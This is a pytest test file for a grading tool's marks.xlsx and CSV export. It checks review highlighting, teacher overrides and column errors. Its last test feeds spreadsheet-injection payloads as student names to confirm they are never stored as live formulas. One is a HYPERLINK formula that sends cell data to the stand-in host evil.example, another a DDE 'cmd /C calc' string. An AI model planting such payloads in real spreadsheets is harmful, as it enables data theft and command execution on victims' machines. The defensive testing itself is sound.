"""marks.xlsx: review rows highlighted, and the teacher's edits read back."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from openpyxl import load_workbook

from grader.errors import MissingColumns
from grader.io.spreadsheet import marks_frame, read_marks, write_marks_xlsx
from grader.types import Unmarked


@pytest.fixture(scope="module")
def two_results(ussr_marker):
    plain = ussr_marker.mark("The Treaty of Rapallo in 1922 ended Soviet isolation.", "ann.txt")
    plain = dataclasses.replace(  # the scorer flags so short an essay; this row stays plain
        plain, level=dataclasses.replace(plain.level, needs_review=False, review_reasons=())
    )
    flagged = dataclasses.replace(
        ussr_marker.mark("Genoa failed in 1922 because France wanted the loans repaid.", "ben.txt"),
    )
    flagged = dataclasses.replace(
        flagged,
        level=dataclasses.replace(
            flagged.level, needs_review=True, review_reasons=("between two levels",)
        ),
    )
    return [plain, flagged]


@pytest.mark.slow
def test_review_rows_are_highlighted(two_results, ussr_marker, tmp_path: Path):
    unmarked = [Unmarked("cara.pdf", "[D007] cara.pdf: the PDF has no text layer", "D007")]
    frame = marks_frame(two_results, unmarked, ussr_marker.rubric, {"ann.txt": "Ann"})
    path = write_marks_xlsx(frame, two_results, ussr_marker.rubric, tmp_path / "marks.xlsx")
    sheet = load_workbook(path)["marks"]
    rows = {r[1].value: r for r in sheet.iter_rows(min_row=2)}
    assert rows["ann.txt"][0].value == "Ann"
    assert rows["ann.txt"][0].fill.fill_type is None
    assert rows["ben.txt"][0].fill.fgColor.rgb[-6:] == "FFF2CC"
    assert rows["ben.txt"][9].value == "between two levels"
    assert rows["cara.pdf"][16].value.startswith("[D007]")


@pytest.mark.slow
def test_read_marks_prefers_the_override_column(two_results, ussr_marker, tmp_path: Path):
    frame = marks_frame(two_results, [], ussr_marker.rubric)
    path = write_marks_xlsx(frame, two_results, ussr_marker.rubric, tmp_path / "marks.xlsx")
    book = load_workbook(path)
    sheet = book["marks"]
    sheet["E2"] = 9  # the teacher edits ann's mark ...
    sheet["F3"] = 14  # ... and overrides ben's
    book.save(path)
    human = read_marks(path).set_index("script")["human_mark"].to_dict()
    assert human == {"ann.txt": 9, "ben.txt": 14}


def test_read_marks_names_missing_columns(tmp_path: Path):
    path = tmp_path / "marks.csv"
    path.write_text("student,score\nann,3\n", encoding="utf-8")
    with pytest.raises(MissingColumns) as info:
        read_marks(path)
    assert str(info.value) == (
        f"[D009] {path}: no column named 'script', 'mark', 'override'. Columns found: "
        f"'student', 'score'. Give the marks.xlsx written by 'grader mark --out' (edit 'mark' "
        f"or fill 'override', but keep the column names)."
    )


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.slow
@pytest.mark.parametrize(
    "name",
    [
        EVIL,  # issue #20 finding 4: became a live formula in marks.xlsx
        "+1+cmd|' /C calc'!A0",  # the other OWASP CSV-injection starts: + - @ tab CR
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_student_name_is_never_a_formula(two_results, ussr_marker, tmp_path: Path, name):
    from grader.io.spreadsheet import write_marks_csv

    unmarked = [Unmarked("cat.txt", "[D002] cat.txt: the script is empty.", "D002")]
    students = {"ann.txt": name, "cat.txt": name}
    frame = marks_frame(two_results, unmarked, ussr_marker.rubric, students)
    write_marks_xlsx(frame, two_results, ussr_marker.rubric, tmp_path / "marks.xlsx")
    book = load_workbook(tmp_path / "marks.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in book["marks"]["A"]][1:4:2] == [name, name]
    write_marks_csv(frame, tmp_path / "marks.csv")
    text = (tmp_path / "marks.csv").read_bytes().decode("utf-8")
    assert "\n" + name not in text and "\n'" + name[:6] in text.replace('"', "")
    if not name[0].isspace():  # the CSV parser trims a leading tab or CR
        assert list(read_marks(tmp_path / "marks.csv")["student"])[:1] == [name]
